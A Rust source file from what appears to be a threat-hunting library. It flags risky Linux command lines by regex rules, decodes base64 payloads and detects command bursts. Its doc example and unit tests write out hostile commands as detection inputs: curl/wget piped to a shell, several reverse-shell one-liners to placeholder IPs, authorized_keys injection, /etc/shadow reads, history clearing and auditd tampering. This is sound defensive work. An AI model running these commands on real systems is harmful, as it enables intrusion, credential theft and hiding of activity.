//! Risky command lines and command bursts.
//!
//! - [`CmdRules`]: rule sets — huntbook's bundled Linux set
//!   (`data/rules/cmdline_risky.json`: download piped to a shell,
//!   `authorized_keys` edits, history clearing, reverse shells, base64-decoded
//!   execution, root shells, credential files, executables in temp
//!   directories, audit tampering), your own file in the same format, or
//!   MSTICPy's `cmd_line_rules.json` format (`{"Syslog": [regex, …]}`).
//! - [`RiskyCommands`]: checks every command line of a frame against a rule
//!   set. Base64 payloads in a command line are decoded with
//!   [`crate::transform::unpack`] (recursively, bounded) and the decoded text
//!   is checked too — MSTICPy decodes the payload and then ignores it.
//! - [`command_bursts`]: `N` commands within `T` seconds (MSTICPy's
//!   `cmd_speed`), merged into one row per burst.
//!
//! ```
//! use huntbook::prelude::*;
//! use huntbook::transform::cmdline::RiskyCommands;
//! let events = df!(
//!     "TimeGenerated" => ["2024-03-04T08:00:01Z", "2024-03-04T08:00:02Z"],
//!     "Command" => ["ls -la", "echo Y3VybCBodHRwOi8vMTAuMC4wLjEvYS5zaCB8IHNo | base64 -d | bash"],
//! )?;
//! let hits = RiskyCommands::new().detect(&events, "Command")?;
//! let rules: Vec<_> = hits.df().column("Rule")?.str()?.iter().flatten().collect();
//! // the command itself, and the decoded payload `curl http://10.0.0.1/a.sh | sh`
//! assert_eq!(rules, ["base64_decoded_execution", "download_piped_to_shell"]);
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

use crate::display::NotebookDisplay;
use crate::error::{Error, PolarsContext, Result};
use crate::transform::unpack::Unpacker;
use crate::vis::html::HtmlBuilder;
use crate::vis::table::{TableOptions, table_html, table_text};
use polars::prelude::*;
use regex::Regex;
use serde::Deserialize;
use std::path::Path;

/// huntbook's bundled rule file (`data/rules/cmdline_risky.json`).
pub const BUNDLED_RULES_JSON: &str = include_str!("../../data/rules/cmdline_risky.json");

/// Longest command line checked (longer ones are checked on their first
/// 64 KiB, and the row says so in `Note`).
const MAX_COMMAND_BYTES: usize = 64 << 10;

/// One rule: a regular expression and what a match means.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct CmdRule {
    /// Short name (`download_piped_to_shell`).
    pub name: String,
    /// What a match means.
    #[serde(default)]
    pub description: String,
    /// `high`, `medium` or `low`.
    #[serde(default = "medium")]
    pub severity: String,
    /// MITRE ATT&CK technique id, if any.
    #[serde(default)]
    pub mitre: Option<String>,
    /// The regular expression (Rust `regex` syntax).
    pub pattern: String,
}

fn medium() -> String {
    "medium".to_string()
}

#[derive(Deserialize)]
struct RuleFile {
    #[serde(default)]
    #[allow(dead_code)]
    name: Option<String>,
    #[serde(default)]
    #[allow(dead_code)]
    version: Option<u32>,
    #[serde(default)]
    #[allow(dead_code)]
    description: Option<String>,
    rules: Vec<CmdRule>,
}

/// A compiled rule set.
#[derive(Debug, Clone)]
pub struct CmdRules {
    rules: Vec<(CmdRule, Regex)>,
}

impl CmdRules {
    /// huntbook's bundled Linux rule set.
    pub fn bundled() -> Result<Self> {
        Self::from_json(BUNDLED_RULES_JSON, "bundled rules")
    }

    /// Rules in huntbook's format: `{"rules": [{"name", "pattern",
    /// "description", "severity", "mitre"}]}`. A pattern matches anywhere in
    /// the command line. `source` names the input in errors.
    pub fn from_json(json: &str, source: &str) -> Result<Self> {
        let file: RuleFile = serde_json::from_str(json).map_err(|e| Error::Json {
            context: format!("reading command-line rules {source}"),
            source: e,
        })?;
        Self::compile(file.rules, source, false)
    }

    /// Rules in MSTICPy's `cmd_line_rules.json` format: `{"Syslog":
    /// [regex, …], …}`, the list of `log_type`. As in MSTICPy (Python's
    /// `re.match`), a pattern must match at the start of the command line;
    /// each rule is named by its pattern.
    pub fn from_msticpy_json(json: &str, log_type: &str, source: &str) -> Result<Self> {
        let v: serde_json::Value = serde_json::from_str(json).map_err(|e| Error::Json {
            context: format!("reading command-line rules {source}"),
            source: e,
        })?;
        let list = v.get(log_type).and_then(|l| l.as_array()).ok_or_else(|| {
            let types: Vec<String> = v
                .as_object()
                .map(|o| o.keys().cloned().collect())
                .unwrap_or_default();
            Error::invalid(
                format!("command-line rules {source}"),
                format!(
                    "no list of patterns for log type '{log_type}' (log types: [{}])",
                    types.join(", ")
                ),
            )
        })?;
        let mut rules = Vec::new();
        for (i, p) in list.iter().enumerate() {
            let pattern = p.as_str().ok_or_else(|| {
                Error::invalid(
                    format!("command-line rules {source}"),
                    format!("'{log_type}' item {i} is not a string"),
                )
            })?;
            rules.push(CmdRule {
                name: pattern.to_string(),
                description: format!("MSTICPy {log_type} rule"),
                severity: medium(),
                mitre: None,
                pattern: pattern.to_string(),
            });
        }
        Self::compile(rules, source, true)
    }

    /// Reads a rule file: huntbook's format, or MSTICPy's when `log_type`
    /// is given.
    pub fn from_file(path: impl AsRef<Path>, log_type: Option<&str>) -> Result<Self> {
        let path = path.as_ref();
        let text = std::fs::read_to_string(path).map_err(|e| Error::io("reading", path, e))?;
        let source = format!("file '{}'", path.display());
        match log_type {
            Some(t) => Self::from_msticpy_json(&text, t, &source),
            None => Self::from_json(&text, &source),
        }
    }

    fn compile(rules: Vec<CmdRule>, source: &str, anchored: bool) -> Result<Self> {
        let mut out = Vec::with_capacity(rules.len());
        for rule in rules {
            let pat = if anchored {
                format!("^(?:{})", rule.pattern)
            } else {
                rule.pattern.clone()
            };
            let re = regex::RegexBuilder::new(&pat)
                .size_limit(1 << 22)
                .build()
                .map_err(|e| {
                    Error::invalid(
                        format!("command-line rule '{}' in {source}", rule.name),
                        e.to_string(),
                    )
                })?;
            out.push((rule, re));
        }
        Ok(Self { rules: out })
    }

    /// The rules.
    pub fn rules(&self) -> impl Iterator<Item = &CmdRule> {
        self.rules.iter().map(|(r, _)| r)
    }

    /// Number of rules.
    pub fn len(&self) -> usize {
        self.rules.len()
    }

    /// True when there are no rules.
    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    /// The rules `text` matches, in rule order.
    pub fn matching(&self, text: &str) -> Vec<&CmdRule> {
        self.rules
            .iter()
            .filter(|(_, re)| re.is_match(text))
            .map(|(r, _)| r)
            .collect()
    }
}

/// One match of a rule on a command line or its decoded payload.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RiskyHit {
    /// The rule's name.
    pub rule: String,
    /// The rule's severity.
    pub severity: String,
    /// The rule's description.
    pub description: String,
    /// MITRE technique, if the rule names one.
    pub mitre: Option<String>,
    /// `command`, or `decoded payload` (base64 decoded, possibly nested).
    pub matched_in: String,
    /// The decoded text that matched (for `decoded payload`).
    pub decoded: Option<String>,
}

/// Risky command-line detection: a rule set and payload decoding.
#[derive(Debug, Clone)]
pub struct RiskyCommands {
    rules: Option<CmdRules>,
    decode: bool,
    unpacker: Unpacker,
    time_column: String,
}

impl Default for RiskyCommands {
    fn default() -> Self {
        Self {
            rules: None,
            decode: true,
            unpacker: Unpacker::new()
                .max_depth(4)
                .max_total_bytes(1 << 20)
                .max_items(32),
            time_column: "TimeGenerated".to_string(),
        }
    }
}

fn b64_candidate() -> Regex {
    // Cheap pre-check: a run that could be a base64 payload.
    Regex::new(r"[A-Za-z0-9+/]{16,}={0,2}").unwrap_or_else(|_| unreachable!())
}

impl RiskyCommands {
    /// The bundled rules, decoding base64 payloads.
    pub fn new() -> Self {
        Self::default()
    }

    /// Uses this rule set instead of the bundled one.
    pub fn rules(mut self, rules: CmdRules) -> Self {
        self.rules = Some(rules);
        self
    }

    /// Decodes base64 payloads and checks them too (default on).
    pub fn decode_base64(mut self, on: bool) -> Self {
        self.decode = on;
        self
    }

    /// The time column carried to the output when the frame has it
    /// (default `TimeGenerated`).
    pub fn time_column(mut self, name: &str) -> Self {
        self.time_column = name.to_string();
        self
    }

    fn rule_set(&self) -> Result<std::borrow::Cow<'_, CmdRules>> {
        match &self.rules {
            Some(r) => Ok(std::borrow::Cow::Borrowed(r)),
            None => Ok(std::borrow::Cow::Owned(CmdRules::bundled()?)),
        }
    }

    /// The rule matches of one command line (and its decoded payloads).
    pub fn check(&self, command: &str) -> Result<Vec<RiskyHit>> {
        let rules = self.rule_set()?;
        Ok(self.check_with(&rules, &b64_candidate(), command))
    }

    fn check_with(&self, rules: &CmdRules, b64: &Regex, command: &str) -> Vec<RiskyHit> {
        let mut cut = command.len().min(MAX_COMMAND_BYTES);
        while !command.is_char_boundary(cut) {
            cut -= 1;
        }
        let command = &command[..cut];
        let mut hits: Vec<RiskyHit> = rules
            .matching(command)
            .into_iter()
            .map(|r| hit(r, "command", None))
            .collect();
        if self.decode
            && b64.is_match(command)
            && let Ok(out) = self.unpacker.unpack(command)
        {
            for item in out.items() {
                let Some(text) = item.decoded_string.as_deref() else {
                    continue;
                };
                for r in rules.matching(text) {
                    if !hits
                        .iter()
                        .any(|h| h.rule == r.name && h.decoded.as_deref() == Some(text))
                    {
                        hits.push(hit(r, "decoded payload", Some(text.to_string())));
                    }
                }
            }
        }
        hits
    }

    /// Checks every command line in `column` of `events`: one row per
    /// match (`SourceIndex`, the time column when present, `Command`,
    /// `Rule`, `Severity`, `Description`, `Mitre`, `MatchedIn`,
    /// `DecodedPayload`). Null and empty command lines are skipped.
    pub fn detect(&self, events: &DataFrame, column: &str) -> Result<RiskyFrame> {
        let events = crate::data::fresh(events);
        let cmds = text_column(&events, column, "command events")?;
        let times = match events.column(&self.time_column) {
            Ok(_) => Some(times_ns(&events, &self.time_column)?),
            Err(_) => None,
        };
        let rules = self.rule_set()?;
        let b64 = b64_candidate();
        let mut idx: Vec<u32> = Vec::new();
        let mut t: Vec<Option<i64>> = Vec::new();
        let mut cmd_out: Vec<String> = Vec::new();
        let mut hits_out: Vec<RiskyHit> = Vec::new();
        let mut checked = 0usize;
        for (row, cmd) in cmds.iter().enumerate() {
            let Some(cmd) = cmd.filter(|c| !c.trim().is_empty()) else {
                continue;
            };
            checked += 1;
            for h in self.check_with(&rules, &b64, cmd) {
                idx.push(row as u32);
                t.push(times.as_ref().and_then(|v| v.get(row).copied().flatten()));
                cmd_out.push(cmd.to_string());
                hits_out.push(h);
            }
        }
        let n = idx.len();
        let mut cols = vec![Column::new("SourceIndex".into(), idx)];
        if times.is_some() {
            cols.push(datetime_column(&self.time_column, t));
        }
        cols.push(Column::new("Command".into(), cmd_out));
        let pick = |f: fn(&RiskyHit) -> Option<&str>| -> Vec<Option<&str>> {
            hits_out.iter().map(f).collect()
        };
        cols.push(Column::new("Rule".into(), pick(|h| Some(h.rule.as_str()))));
        cols.push(Column::new(
            "Severity".into(),
            pick(|h| Some(h.severity.as_str())),
        ));
        cols.push(Column::new(
            "Description".into(),
            pick(|h| Some(h.description.as_str())),
        ));
        cols.push(Column::new("Mitre".into(), pick(|h| h.mitre.as_deref())));
        cols.push(Column::new(
            "MatchedIn".into(),
            pick(|h| Some(h.matched_in.as_str())),
        ));
        cols.push(Column::new(
            "DecodedPayload".into(),
            pick(|h| h.decoded.as_deref()),
        ));
        let df = DataFrame::new(n, cols).ctx("building the risky-commands frame")?;
        Ok(RiskyFrame {
            df,
            checked,
            rules: rules.len(),
        })
    }
}

fn hit(r: &CmdRule, matched_in: &str, decoded: Option<String>) -> RiskyHit {
    RiskyHit {
        rule: r.name.clone(),
        severity: r.severity.clone(),
        description: r.description.clone(),
        mitre: r.mitre.clone(),
        matched_in: matched_in.to_string(),
        decoded,
    }
}

/// Risky command lines found in a frame.
#[derive(Debug, Clone)]
pub struct RiskyFrame {
    df: DataFrame,
    checked: usize,
    rules: usize,
}

impl RiskyFrame {
    /// One row per rule match.
    pub fn df(&self) -> &DataFrame {
        &self.df
    }
    /// The frame, by value.
    pub fn into_df(self) -> DataFrame {
        self.df
    }
    /// Command lines checked (non-empty).
    pub fn checked(&self) -> usize {
        self.checked
    }
    fn headline(&self) -> String {
        format!(
            "{} rule match(es) in {} command line(s) checked against {} rule(s)",
            self.df.height(),
            self.checked,
            self.rules
        )
    }
}

impl NotebookDisplay for RiskyFrame {
    fn to_html(&self) -> String {
        let mut h = HtmlBuilder::new();
        h.element("p", &[], &self.headline());
        let mut html = h.finish();
        html.push_str(&table_html(&self.df, &TableOptions::new().max_rows(50)));
        html
    }
    fn to_text(&self) -> String {
        format!("{}\n{}", self.headline(), table_text(&self.df))
    }
}

/// Bursts of command lines: at least `min_commands` non-empty commands of
/// `column` whose first and last times are less than `seconds` apart
/// (MSTICPy's `cmd_speed(time=seconds, events=min_commands)`). Overlapping
/// windows are merged, so each burst is one row: `BurstStart`, `BurstEnd`,
/// `Commands` (how many), `FirstIndex`/`LastIndex` (input rows, in time
/// order) and `CommandList` (the commands, one per line).
///
/// MSTICPy returns one entry per window start and compares the span of
/// `events + 1` commands; here a window is exactly `min_commands` commands.
pub fn command_bursts(
    events: &DataFrame,
    column: &str,
    time_column: &str,
    seconds: f64,
    min_commands: usize,
) -> Result<DataFrame> {
    if !(seconds.is_finite() && seconds > 0.0) || min_commands < 2 {
        return Err(Error::invalid(
            "command burst settings",
            format!("need seconds > 0 and at least 2 commands, got {seconds} s and {min_commands}"),
        ));
    }
    let events = crate::data::fresh(events);
    let cmds = text_column(&events, column, "command events")?;
    let times = times_ns(&events, time_column)?;
    let mut rows: Vec<(i64, usize)> = cmds
        .iter()
        .enumerate()
        .filter(|(_, c)| c.is_some_and(|c| !c.trim().is_empty()))
        .filter_map(|(i, _)| times.get(i).copied().flatten().map(|t| (t, i)))
        .collect();
    rows.sort();
    let limit = (seconds * 1e9) as i64;
    let k = min_commands;
    // Mark the commands covered by a qualifying window, then merge runs.
    let mut covered_until: Option<usize> = None;
    let mut bursts: Vec<(usize, usize)> = Vec::new();
    for s in 0..rows.len().saturating_sub(k - 1) {
        let e = s + k - 1;
        let (Some(first), Some(last)) = (rows.get(s), rows.get(e)) else {
            break;
        };
        if last.0 - first.0 < limit {
            match (covered_until, bursts.last_mut()) {
                (Some(end), Some(b)) if s <= end => b.1 = e,
                _ => bursts.push((s, e)),
            }
            covered_until = Some(e);
        }
    }
    let mut start = Vec::new();
    let mut end = Vec::new();
    let mut count = Vec::new();
    let mut first_idx = Vec::new();
    let mut last_idx = Vec::new();
    let mut list = Vec::new();
    for (s, e) in &bursts {
        let part = &rows[*s..=*e];
        start.push(part.first().map(|r| r.0));
        end.push(part.last().map(|r| r.0));
        count.push(part.len() as u32);
        first_idx.push(part.first().map(|r| r.1 as u32));
        last_idx.push(part.last().map(|r| r.1 as u32));
        let text: Vec<&str> = part.iter().filter_map(|r| cmds.get(r.1)).collect();
        list.push(text.join("\n"));
    }
    DataFrame::new(
        bursts.len(),
        vec![
            datetime_column("BurstStart", start),
            datetime_column("BurstEnd", end),
            Column::new("Commands".into(), count),
            Column::new("FirstIndex".into(), first_idx),
            Column::new("LastIndex".into(), last_idx),
            Column::new("CommandList".into(), list),
        ],
    )
    .ctx("building the command-burst frame")
}

pub(crate) fn datetime_column(name: &str, values: Vec<Option<i64>>) -> Column {
    let ca: Int64Chunked = values.into_iter().collect();
    ca.with_name(name.into())
        .into_datetime(TimeUnit::Nanoseconds, Some(polars::prelude::TimeZone::UTC))
        .into_column()
}

/// A column as text (any dtype cast), naming the frame in errors.
pub(crate) fn text_column(df: &DataFrame, name: &str, what: &str) -> Result<StringChunked> {
    let c = df.column(name).map_err(|_| {
        Error::column_not_found(name, what, df.get_column_names().iter().map(|c| c.as_str()))
    })?;
    let s = c
        .cast(&DataType::String)
        .ctx(format!("reading column '{name}' as text"))?;
    Ok(s.str()
        .ctx(format!("reading column '{name}' as text"))?
        .clone())
}

/// Event times as UTC nanoseconds: the one reader the process tree uses
/// (datetime, date, text in the usual log formats, epoch numbers).
pub(crate) use crate::transform::proctree::input::{parse_time, times_ns};

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bundled_rules_compile_and_match() {
        let r = CmdRules::bundled().unwrap();
        assert_eq!(r.len(), 14);
        let names = |c: &str| -> Vec<String> {
            r.matching(c).into_iter().map(|x| x.name.clone()).collect()
        };
        assert_eq!(
            names("curl -s http://x/a.sh | sudo bash"),
            ["download_piped_to_shell"]
        );
        assert_eq!(
            names("wget -qO- http://x/i | sh -s"),
            ["download_piped_to_shell"]
        );
        assert_eq!(
            names("bash <(curl -fsSL http://x/i.sh)"),
            ["download_run_by_shell"]
        );
        assert_eq!(names("curl -o out.tar.gz http://x/a"), Vec::<String>::new());
        assert_eq!(
            names("echo ssh-rsa AAAA >> /root/.ssh/authorized_keys"),
            ["authorized_keys_modified"]
        );
        assert_eq!(names("cat ~/.ssh/authorized_keys"), Vec::<String>::new());
        for c in [
            "history -c",
            "unset HISTFILE",
            "export HISTFILE=/dev/null",
            "rm -f /home/bob/.bash_history",
            "ln -sf /dev/null ~/.bash_history",
        ] {
            assert_eq!(names(c), ["history_cleared"], "{c}");
        }
        assert_eq!(
            names("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
            ["reverse_shell_dev_tcp"]
        );
        assert_eq!(
            names("nc -e /bin/sh 10.0.0.1 4444"),
            ["reverse_shell_netcat"]
        );
        assert_eq!(
            names("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f"),
            ["reverse_shell_fifo"]
        );
        assert_eq!(
            names(
                "python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"1.2.3.4\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'"
            ),
            ["reverse_shell_script"]
        );
        assert_eq!(
            names("socat tcp:1.2.3.4:9 exec:/bin/sh"),
            ["reverse_shell_socat"]
        );
        assert_eq!(
            names("echo aWQ= | base64 -d | bash"),
            ["base64_decoded_execution"]
        );
        assert_eq!(names("/bin/bash"), ["interactive_root_shell"]);
        assert_eq!(names("sudo su -"), ["interactive_root_shell"]);
        assert_eq!(names("/bin/bash -c id"), Vec::<String>::new());
        assert_eq!(names("cat /etc/shadow"), ["credential_file_access"]);
        assert_eq!(names("chmod +x /tmp/x"), ["executable_in_temp"]);
        assert_eq!(names("chmod 755 /dev/shm/.a"), ["executable_in_temp"]);
        assert_eq!(names("systemctl stop auditd"), ["audit_tampering"]);
        assert_eq!(names("auditctl -D"), ["audit_tampering"]);
        assert_eq!(names("ls -la /tmp"), Vec::<String>::new());
    }

    #[test]
    fn msticpy_format_is_anchored() {
        let r =
            CmdRules::from_msticpy_json(r#"{"Syslog": ["/bin/bash", ".*wget.*"]}"#, "Syslog", "t")
                .unwrap();
        assert_eq!(r.matching("/bin/bash -i").len(), 1);
        assert_eq!(r.matching("sudo /bin/bash").len(), 0);
        let err = CmdRules::from_msticpy_json(r#"{"Syslog": []}"#, "Auditd", "t")
            .unwrap_err()
            .to_string();
        assert_eq!(
            err,
            "invalid command-line rules t: no list of patterns for log type 'Auditd' (log types: [Syslog])"
        );
        let err = CmdRules::from_msticpy_json(r#"{"Syslog": ["(a"]}"#, "Syslog", "t")
            .unwrap_err()
            .to_string();
        assert!(
            err.starts_with("invalid command-line rule '(a' in t:"),
            "{err}"
        );
        let err = CmdRules::from_json("{\"rules\": [{\"name\": \"x\"}]}", "t")
            .unwrap_err()
            .to_string();
        assert!(err.contains("missing field `pattern`"), "{err}");
    }

    #[test]
    fn times() {
        assert_eq!(
            parse_time("2019-07-10T15:13:25.813Z"),
            Some(1_562_771_605_813_000_000)
        );
        assert_eq!(
            parse_time("2019-07-10 15:13:25"),
            Some(1_562_771_605_000_000_000)
        );
        assert_eq!(
            parse_time("7/8/2019 16:08"),
            Some(1_562_602_080_000_000_000)
        );
        assert_eq!(parse_time("yesterday"), None);
    }
}
